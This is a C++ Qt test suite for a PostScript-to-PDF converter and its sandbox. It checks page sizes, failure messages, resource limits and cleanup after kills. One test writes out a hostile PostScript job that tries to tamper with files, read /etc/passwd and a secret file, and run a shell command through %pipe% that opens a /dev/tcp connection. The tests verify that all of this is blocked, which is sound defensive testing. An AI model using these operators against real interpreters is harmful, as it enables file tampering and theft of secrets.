// The converter program on real PostScript: pages, EPS boxes, failures,
// limits, and hostile jobs against the barrier around them.

#include "BMTUtil.h"
#include "PostScriptSamples.h"
#include "conversion/ConverterInterface.h"
#include "conversion/ConverterProcess.h"
#include "conversion/PostScriptConverter.h"

#include <QLocalServer>
#include <QProcess>
#include <QTcpServer>
#include <QTemporaryDir>
#include <QTest>

#include <linux/landlock.h>
#include <poll.h>
#include <signal.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

namespace fs = std::filesystem;

namespace {

// Makes a temporary file, which its private folder then holds, and never ends.
const std::string kForeverWithATemporaryFile = "%!PS\nnull (w) .tempfile pop pop\n{} loop\n";

bool KernelHasLandlock() {
  return syscall(SYS_landlock_create_ruleset, nullptr, 0, LANDLOCK_CREATE_RULESET_VERSION) > 0;
}

using samples::ReadAll;

// Whether a running process has marker among its arguments (a zombie has none left).
bool ProcessWithArgumentRuns(const std::string& marker) {
  for (const auto& entry : fs::directory_iterator("/proc")) {
    if (ReadAll(entry.path() / "cmdline").find(marker) != std::string::npos) return true;
  }
  return false;
}

}  // namespace

class ConverterProgram : public QObject {
  Q_OBJECT

 private:
  QTemporaryDir m_dir;
  QTemporaryDir m_tmp;  // TMPDIR of every run, to see what is left there

  fs::path Root() const { return fs::path(m_dir.path().toStdString()); }

  samples::ProgramRun Convert(const fs::path& input, const fs::path& output,
                              const QStringList& extra = {}, const std::string& program = "pstopdf",
                              const QStringList& environment = {}) {
    return samples::RunProgram(program, QStringList{samples::Arg(input), "-o", samples::Arg(output)} + extra,
                               QStringList{"TMPDIR=" + m_tmp.path()} + environment);
  }

  // Starts program (one of ours) with TMPDIR the watched temporary folder.
  void Start(QProcess& p, const std::string& program, const QStringList& args) {
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.insert(QStringLiteral("TMPDIR"), m_tmp.path());
    p.setProcessEnvironment(env);
    p.start(samples::Arg(samples::BinDir() / program), args);
  }

  // A converter that was stopped leaves the removal to its watchdog, which
  // may finish a moment after the converter has ended.
  void VerifyTempFolderEmpty() {
    QTRY_VERIFY2_WITH_TIMEOUT(samples::ListTree(m_tmp.path().toStdString()).empty(),
                              "the converter left files in its temporary folder", 30000);
  }

 private Q_SLOTS:
  void pagesAndEpsBoxesKeepTheirSizes() {
    // Forty pages, the first three of other sizes: a caller starts on the
    // output when our errors close, while we end, so it must be complete then.
    std::vector<std::pair<int, int>> pages(40, {612, 792});
    pages[1] = {595, 842};
    pages[2] = {300, 200};
    const fs::path ps = Root() / "pages.ps";
    samples::WriteFile(ps, samples::PostScriptWithPages(pages));
    const fs::path pdf = Root() / "pages.pdf";
    ProcessSetup setup;
    setup.environment = {"TMPDIR=" + m_tmp.path().toStdString()};
    std::size_t pagesWhenClosed = 0;
    const ProcessOutcome run =
        RunProcess(samples::BinDir() / "pstopdf", {ps.native(), "-o", pdf.native()}, {}, {},
                   [&] { pagesWhenClosed = samples::PdfPageSizes(pdf).size(); }, setup);
    QCOMPARE(run.exitStatus, 0);
    QCOMPARE(pagesWhenClosed, pages.size());
    const fs::path eps = Root() / "figure.eps";
    samples::WriteFile(eps, samples::EpsWithBox(100, 200, 250, 260));
    QCOMPARE(Convert(eps, Root() / "figure.pdf").exitCode, 0);
    samples::Sizes sizes;
    for (const auto& [w, h] : pages) sizes.emplace_back(w, h);
    QCOMPARE(samples::Rounded(samples::PdfPageSizes(pdf)), sizes);
    QCOMPARE(samples::Rounded(samples::PdfPageSizes(Root() / "figure.pdf")), (samples::Sizes{{150, 60}}));
    QVERIFY(samples::QpdfCheckPasses(pdf));
    QVERIFY(samples::QpdfCheckPasses(Root() / "figure.pdf"));
    // An end-of-page procedure of the document's own may add a page as the
    // device is let go, in a job of its own and in a ready copy alike.
    const fs::path lastPage = Root() / "last-page.ps";
    samples::WriteFile(lastPage, "%!PS\n<< /PageSize [300 200] /EndPage { pop pop true } >> setpagedevice\n"
                                 "showpage 0 0 moveto 9 9 lineto stroke\n");
    for (const QString ready : {"0", "require"}) {
      const fs::path out = Root() / ("last-page-" + ready.toStdString() + ".pdf");
      QCOMPARE(Convert(lastPage, out, {}, "pstopdf", {"QUILLPRESS_PSTOPDF_READY=" + ready}).exitCode, 0);
      QCOMPARE(samples::Rounded(samples::PdfPageSizes(out)), (samples::Sizes{{300, 200}, {300, 200}}));
    }
    VerifyTempFolderEmpty();
  }

  void failuresLeaveNoOutput_data() {
    QTest::addColumn<std::string>("kind");
    QTest::addColumn<int>("exitCode");
    QTest::addColumn<QByteArray>("reason");
    QTest::newRow("truncated")
        << std::string("%!PS\n/p { 72 72 moveto (x) show showpage } def p p\n/q { 1 2 \n") << 1
        << QByteArray("could not be converted");
    // Refused at once: a pipe nobody writes to, or an endless device, would
    // otherwise hold the converter before any limit applies.
    // Its name is shown escaped, as every name is.
    QTest::newRow("missing, named to fool a terminal") << std::string("missing") << 2 << QByteArray("No such file");
    QTest::newRow("folder") << std::string("folder") << 2 << QByteArray("it is a folder");
    QTest::newRow("named pipe") << std::string("fifo") << 2 << QByteArray("it is a named pipe");
    QTest::newRow("device") << std::string("device") << 2 << QByteArray("it is a character device");
    QTest::newRow("socket") << std::string("socket") << 2 << QByteArray("it is a socket");
    QTest::newRow("no output named") << std::string("usage") << 2 << QByteArray("no output file");
  }

  void failuresLeaveNoOutput() {
    QFETCH(std::string, kind);
    QFETCH(int, exitCode);
    QFETCH(QByteArray, reason);
    fs::path input = Root() / "inputs" / "in.ps";
    fs::remove_all(input.parent_path());
    fs::create_directories(input.parent_path());
    const fs::path pdf = Root() / "inputs" / "out.pdf";
    QLocalServer socket;
    if (kind.rfind("%!PS", 0) == 0 || kind == "usage") samples::WriteFile(input, kind);
    if (kind == "folder") fs::create_directories(input);
    if (kind == "fifo") QCOMPARE(mkfifo(input.c_str(), 0600), 0);
    if (kind == "device") input = "/dev/zero";
    if (kind == "missing") input.replace_filename("in\x1b[2K\r\nconverted.ps");
    if (kind == "socket") QVERIFY(socket.listen(QFile::decodeName(input.c_str())));
    const samples::ProgramRun run =
        kind == "usage" ? samples::RunProgram("pstopdf", {samples::Arg(input)}) : Convert(input, pdf);
    QCOMPARE(run.exitCode, exitCode);
    QVERIFY2(run.output.contains(reason), run.output.constData());
    if (exitCode == 2 && kind != "usage") {
      QVERIFY(run.output.contains(("cannot read " + BMTUtil::EscapedForDisplay(input.native())).c_str()));
    }
    for (const char c : run.output) QVERIFY(c == '\n' || static_cast<unsigned char>(c) >= 0x20);
    QVERIFY(!fs::exists(pdf));
    VerifyTempFolderEmpty();
  }

  void hostileJobChangesAndReadsNothingOutsideItsFolder_data() {
    QTest::addColumn<std::string>("program");
    QTest::newRow("SAFER and the system's barrier") << std::string("pstopdf");
    // Shows what the operating system's barrier stops by itself, should a
    // job ever escape SAFER.
    QTest::newRow("the system's barrier alone") << std::string("pstopdf-without-safer");
  }

  void hostileJobChangesAndReadsNothingOutsideItsFolder() {
    QFETCH(std::string, program);
    if (!fs::exists(samples::BinDir() / program)) {
      QSKIP("built without QUILLPRESS_TEST_WITHOUT_SAFER (scripts/test.sh turns it on)");
    }
    const bool withoutSafer = program != "pstopdf";
    const bool landlock = KernelHasLandlock();
    const std::string tmp = m_tmp.path().toStdString();
    const fs::path input = Root() / "hostile.ps";
    const fs::path victim = Root() / "victim.txt";
    const fs::path secret = Root() / "secret.txt";
    const fs::path tmpVictim = tmp + "/tmp-victim.txt";
    const std::vector<fs::path> planted = {Root() / "planted.txt", tmp + "/planted",
                                           Root() / "planted-by-a-program"};
    samples::WriteFile(victim, "keep me");
    samples::WriteFile(tmpVictim, "keep me too");
    samples::WriteFile(secret, "SECRET-OF-THE-USER");
    QTcpServer listener;
    QVERIFY(listener.listen(QHostAddress::LocalHost));
    const std::string port = std::to_string(listener.serverPort());
    auto attempt = [](const std::string& what) { return "{ " + what + " } stopped pop\n"; };
    std::string job = "%!PS\n";
    // Its own input, by every name it may find: the path it was given, and
    // the descriptors the interpreter holds.
    job += attempt("(" + input.string() + ") (a) file (APPENDED) writestring");
    job += attempt("(" + input.string() + ") (r+) file (OVERWRITTEN) writestring");
    job += attempt("(" + input.string() + ") deletefile");
    job += attempt("(" + input.string() + ") (" + input.string() + ".moved) renamefile");
    job += "0 1 31 { /n exch def n 3 ge {\n";
    job += attempt("(/proc/self/fd/) n 3 string cvs concatstrings (a) file (APPENDED) writestring");
    job += attempt("(/dev/fd/) n 3 string cvs concatstrings (a) file (APPENDED) writestring");
    job += "} if } for\n";
    // Files outside, to change, plant, read.
    job += attempt("(" + victim.string() + ") deletefile");
    job += attempt("(" + tmpVictim.string() + ") deletefile");
    for (int i : {0, 1}) job += attempt("(" + planted[std::size_t(i)].string() + ") (w) file (x) writestring");
    for (const std::string& file : {secret.string(), std::string("/etc/passwd")}) {
      job += attempt("(" + file + ") (r) file 200 string readstring pop (READ:) print print (\\n) print");
    }
    // A program, and through one a connection.
    job += attempt("(%pipe%touch " + planted[2].string() + ") (w) file closefile");
    job += attempt("(%pipe%bash -c 'echo x > /dev/tcp/127.0.0.1/" + port + "') (w) file closefile");
    job += "(JOB-END\n) print\n";
    job += "72 72 moveto /Helvetica findfont 12 scalefont setfont (done) show showpage\n";
    samples::WriteFile(input, job);

    const samples::ProgramRun run = Convert(input, Root() / "hostile.pdf", {}, program);
    QVERIFY2(run.output.contains("JOB-END"), run.output.constData());  // it tried everything
    QVERIFY(!fs::exists(planted[2]));
    QVERIFY(!listener.waitForNewConnection(0));
    // A kernel without the file barrier is said once.
    QCOMPARE(run.output.count("pstopdf: note:"), landlock ? 0 : 1);
    if (withoutSafer && !landlock) {
      fs::remove(tmpVictim);
      QSKIP("this kernel has no Landlock: without SAFER nothing guards the files");
    }
    QCOMPARE(ReadAll(input), job);
    QVERIFY(!fs::exists(input.string() + ".moved"));
    QCOMPARE(ReadAll(victim), std::string("keep me"));
    QCOMPARE(ReadAll(tmpVictim), std::string("keep me too"));
    for (const fs::path& file : planted) QVERIFY2(!fs::exists(file), file.c_str());
    QVERIFY(!run.output.contains("READ:"));
    fs::remove(tmpVictim);
    VerifyTempFolderEmpty();
  }

  // Each job is run as the window, the command line and the watch folder run
  // it: pstopdf says which limit stopped it in its own words, and on the
  // report its caller reads the kind and the limit, or the interpreter's
  // error; no PDF, nothing left.
  void failingJobsAreStoppedAndSayWhy_data() {
    QTest::addColumn<std::string>("program");
    QTest::addColumn<std::string>("job");
    QTest::addColumn<QStringList>("options");
    QTest::addColumn<QStringList>("environment");
    QTest::addColumn<QByteArray>("words");
    QTest::addColumn<QByteArray>("kind");
    QTest::addColumn<int>("limit");
    const std::string write = "%!PS\n/buf 65536 string def\n";
    // 8 MiB into one temporary file; 9 MiB through files of 1.5 MiB that it
    // removes as it goes, so that its folder never holds much at once.
    const std::string oneLargeFile =
        write + "null (w) .tempfile /f exch def pop 128 { f buf writestring } repeat f closefile\n";
    const std::string manySmallFiles =
        write + "6 { null (w) .tempfile /f exch def /n exch def\n"
                "24 { f buf writestring } repeat f closefile n deletefile } repeat\n";
    const std::string endless = "%!PS\n{} loop\n";
    // Empty files without end: no bytes, only the file system's entries.
    const std::string emptyFiles = "%!PS\n{ null (w) .tempfile closefile pop } loop\n";
    // A page is written before the error: the output must still not appear.
    const std::string unknownCommand = "%!PS\n72 72 moveto (one) show showpage\nshwo\n";
    const QStringList none, output = {"--max-output-mib", "4"};
    const QByteArray overOutput = "more than 4 MiB, its output limit", overFiles = "made more than 300 files, its limit";
    // A ready interpreter's copy is held to the same limits.
    const QString ready = "QUILLPRESS_PSTOPDF_READY=require";
    const std::string ps = "pstopdf";
    QTest::newRow("endless") << ps << endless << QStringList{"--cpu-seconds", "1"} << none
                             << QByteArray("CPU time") << QByteArray("cpu-limit") << 1;
    QTest::newRow("endless, in a ready copy, limit from the environment")
        << ps << endless << none << QStringList{ready, "QUILLPRESS_PSTOPDF_CPU_SECONDS=1"} << QByteArray("CPU time")
        << QByteArray("cpu-limit") << 1;
    QTest::newRow("greedy") << ps << std::string("%!PS\n/a [ { 100000 string } 100000 { dup exec exch } repeat ] def\n")
                            << QStringList{"--memory-mib", "300"} << none << QByteArray() << QByteArray("memory-limit")
                            << 300;
    QTest::newRow("one large file, limit from the environment")
        << ps << oneLargeFile << none << QStringList{"QUILLPRESS_PSTOPDF_MAX_OUTPUT_MIB=4"} << overOutput
        << QByteArray("output-limit") << 4;
    QTest::newRow("many files in turn") << ps << manySmallFiles << output << none << overOutput
                                        << QByteArray("output-limit") << 4;
    QTest::newRow("many files in turn, in a ready copy")
        << ps << manySmallFiles << output << QStringList{ready} << overOutput << QByteArray("output-limit") << 4;
    QTest::newRow("empty files") << ps << emptyFiles << QStringList{"--max-files", "300"} << none << overFiles
                                 << QByteArray("file-count-limit") << 300;
    QTest::newRow("empty files, in a ready copy, limit from the environment")
        << ps << emptyFiles << none << QStringList{ready, "QUILLPRESS_PSTOPDF_MAX_FILES=300"} << overFiles
        << QByteArray("file-count-limit") << 300;
    QTest::newRow("unknown command") << ps << unknownCommand << none << none << QByteArray("Error: /undefined in shwo")
                                     << QByteArray("interpreter-error") << 0;
    QTest::newRow("unknown command, in a ready copy")
        << ps << unknownCommand << none << QStringList{ready} << QByteArray("Error: /undefined in shwo")
        << QByteArray("interpreter-error") << 0;
    // A job that waits spends no processor time: the clock stops it.
    QTest::newRow("waiting") << std::string("pstopdf-system-calls") << std::string("sleep 600\n")
                             << QStringList{"--wall-seconds", "2"} << none
                             << QByteArray("took longer than 2 seconds, its time limit") << QByteArray("time-limit") << 2;
  }

  void failingJobsAreStoppedAndSayWhy() {
    QFETCH(std::string, program);
    QFETCH(std::string, job);
    QFETCH(QStringList, options);
    QFETCH(QStringList, environment);
    QFETCH(QByteArray, words);
    QFETCH(QByteArray, kind);
    QFETCH(int, limit);
    if (!fs::exists(samples::BinDir() / program)) QSKIP("built without QUILLPRESS_TEST_WITHOUT_SAFER");
    const fs::path ps = Root() / "over.ps";
    samples::WriteFile(ps, job + "72 72 moveto /Helvetica findfont 12 scalefont setfont (x) show showpage\n");
    const fs::path pdf = Root() / "over.pdf";
    ProcessSetup setup;
    std::string report;
    setup.report = &report;
    setup.environment = {std::string(kReportVariable) + "=" + std::to_string(kReportDescriptor),
                         "TMPDIR=" + m_tmp.path().toStdString()};
    for (const QString& entry : environment) setup.environment.push_back(entry.toStdString());
    std::vector<std::string> args = {ps.native(), "-o", pdf.native()};
    for (const QString& option : options) args.push_back(option.toStdString());
    const ProcessOutcome run = RunProcess(samples::BinDir() / program, args, {}, {}, {}, setup);
    QCOMPARE(run.exitStatus, 1);
    QVERIFY2(QByteArray::fromStdString(run.errorTail).contains(words), run.errorTail.c_str());
    const std::optional<ConversionFailure> said = ParseFailureReport(report);
    QVERIFY2(said, report.c_str());
    QCOMPARE(ConversionFailureKindName(said->kind), std::string_view(kind.constData()));
    QCOMPARE(said->limit, limit ? std::optional<std::uint64_t>(limit) : std::nullopt);
    if (said->kind == ConversionFailureKind::InterpreterError) {
      QCOMPARE(said->detail, std::string("Error: /undefined in shwo"));
    }
    QVERIFY(!fs::exists(pdf));
    VerifyTempFolderEmpty();
  }

  void barrierRefusesWhatAnEscapedJobTries() {
    // The calls that code running through an interpreter's fault would make,
    // from inside a real job: none may change a file outside, make a device,
    // touch the system or leave a process behind. Threads are allowed.
    const std::string program = "pstopdf-system-calls";
    if (!fs::exists(samples::BinDir() / program)) QSKIP("built without QUILLPRESS_TEST_WITHOUT_SAFER");
    const fs::path victim = Root() / "victim.txt";
    samples::WriteFile(victim, "keep me");
    fs::permissions(victim, fs::perms::owner_read | fs::perms::owner_write);
    struct stat before {};
    QCOMPARE(stat(victim.c_str(), &before), 0);
    const std::string v = victim.string();
    const std::vector<std::string> refused = {
        "chmod " + v, "chown " + v, "utimes " + v, "setxattr " + v, "removexattr " + v,
        "mknod-device device", "mkfifo fifo", "mkdir folder", "symlink link", "chroot .",
        "sethostname quillpress-job", "capability", "fork"};
    std::string list = "%!PS (not PostScript: one system call a line)\n";
    for (const std::string& call : refused) list += call + "\n";
    list += "thread\n";
    const fs::path input = Root() / "calls.ps";
    samples::WriteFile(input, list);
    const samples::ProgramRun run =
        Convert(input, Root() / "calls.pdf", {}, program);
    for (const std::string& call : refused) {
      const QByteArray said = QByteArray::fromStdString("CALL " + call + ": refused (Operation not permitted)");
      QVERIFY2(run.output.contains(said), (said + "\n" + run.output).constData());
    }
    QVERIFY2(run.output.contains("CALL thread: done"), run.output.constData());
    QCOMPARE(run.exitCode, 1);  // and no PDF
    struct stat after {};
    QCOMPARE(stat(victim.c_str(), &after), 0);
    QCOMPARE(after.st_mode, before.st_mode);
    QCOMPARE(after.st_mtim.tv_sec, before.st_mtim.tv_sec);
    QCOMPARE(after.st_mtim.tv_nsec, before.st_mtim.tv_nsec);
    QCOMPARE(ReadAll(victim), std::string("keep me"));
    QVERIFY(!ProcessWithArgumentRuns(input.string()));
    VerifyTempFolderEmpty();
  }

  void pipeWhereThePdfBelongsFailsAtOnce() {
    // The job ends well, leaving a named pipe where its PDF belongs (put
    // there from outside: the barrier refuses the job one): nobody will
    // ever write to it, and opening it must not wait.
    const std::string program = "pstopdf-system-calls";
    if (!fs::exists(samples::BinDir() / program)) QSKIP("built without QUILLPRESS_TEST_WITHOUT_SAFER");
    const fs::path input = Root() / "waits-for-its-pdf.ps";
    samples::WriteFile(input, "wait-for out.pdf\n");
    QProcess p;
    Start(p, program, {samples::Arg(input), "-o", samples::Arg(Root() / "pipe.pdf")});
    QVERIFY(p.waitForStarted());
    fs::path folder;
    QTRY_VERIFY_WITH_TIMEOUT(([&] {
      for (const auto& entry : fs::directory_iterator(m_tmp.path().toStdString())) folder = entry.path();
      return !folder.empty();
    }()), 30000);
    QCOMPARE(mkfifo((folder / "out.pdf").c_str(), 0600), 0);
    QVERIFY(p.waitForFinished(30000));
    QCOMPARE(p.exitCode(), 1);
    QVERIFY(p.readAllStandardError().contains("no complete PDF"));
    QVERIFY(!fs::exists(Root() / "pipe.pdf"));
    VerifyTempFolderEmpty();
  }

  void killedConverterLeavesNothingBehind_data() {
    QTest::addColumn<std::string>("program");
    QTest::addColumn<bool>("atOnce");
    QTest::addColumn<int>("signal");
    QTest::addColumn<QByteArray>("says");  // when it may end itself
    // The very moment its private folder appears, before it may know of it.
    QTest::newRow("as its folder appears") << std::string("pstopdf") << true << SIGKILL << QByteArray();
    QTest::newRow("while it interprets") << std::string("pstopdf") << false << SIGKILL << QByteArray();
    // The command line converts; it is killed and must take the converter along.
    QTest::newRow("its caller, while it interprets") << std::string("quillpress-cli") << false << SIGKILL
                                                     << QByteArray();
    // Asked to stop, each ends its work and says so.
    QTest::newRow("stopped while it interprets") << std::string("pstopdf") << false << SIGTERM
                                                 << QByteArray("pstopdf: stopped");
    QTest::newRow("its caller stopped") << std::string("quillpress-cli") << false << SIGTERM
                                        << QByteArray("Interrupted: 0 of 1 files converted");
  }

  void killedConverterLeavesNothingBehind() {
    QFETCH(std::string, program);
    QFETCH(bool, atOnce);
    QFETCH(int, signal);
    QFETCH(QByteArray, says);
    const fs::path input = Root() / ("forever-" + std::string(QTest::currentDataTag()) + ".ps");
    const fs::path out = Root() / "killed";
    fs::create_directories(out);
    samples::WriteFile(input, kForeverWithATemporaryFile);
    const int watch = inotify_init1(IN_CLOEXEC);
    QVERIFY(watch >= 0);
    QVERIFY(inotify_add_watch(watch, m_tmp.path().toLocal8Bit().constData(), IN_CREATE) >= 0);
    QProcess p;
    Start(p, program, (program == "pstopdf" ? QStringList{} : QStringList{"convert"}) +
                          QStringList{samples::Arg(input), "-o",
                                      samples::Arg(program == "pstopdf" ? out / "forever.pdf" : out)});
    QVERIFY(p.waitForStarted());
    pollfd created{watch, POLLIN, 0};
    const bool appeared = poll(&created, 1, 60000) == 1;
    close(watch);
    QVERIFY(appeared);
    // Its temporary file is made once the interpreter runs.
    if (!atOnce) QTRY_VERIFY_WITH_TIMEOUT(samples::ListTree(m_tmp.path().toStdString()).size() >= 2, 60000);
    QCOMPARE(kill(static_cast<pid_t>(p.processId()), signal), 0);
    QVERIFY(p.waitForFinished());
    if (!says.isEmpty()) {
      const QByteArray said = p.readAllStandardError();
      QVERIFY2(p.exitStatus() == QProcess::NormalExit && p.exitCode() == 1 && said.contains(says),
               said.constData());
    }
    QTRY_VERIFY_WITH_TIMEOUT(!ProcessWithArgumentRuns(input.string()), 30000);
    QVERIFY(samples::ListTree(out).empty());
    VerifyTempFolderEmpty();
  }
};

QTEST_GUILESS_MAIN(ConverterProgram)
#include "tst_converter_program.moc"
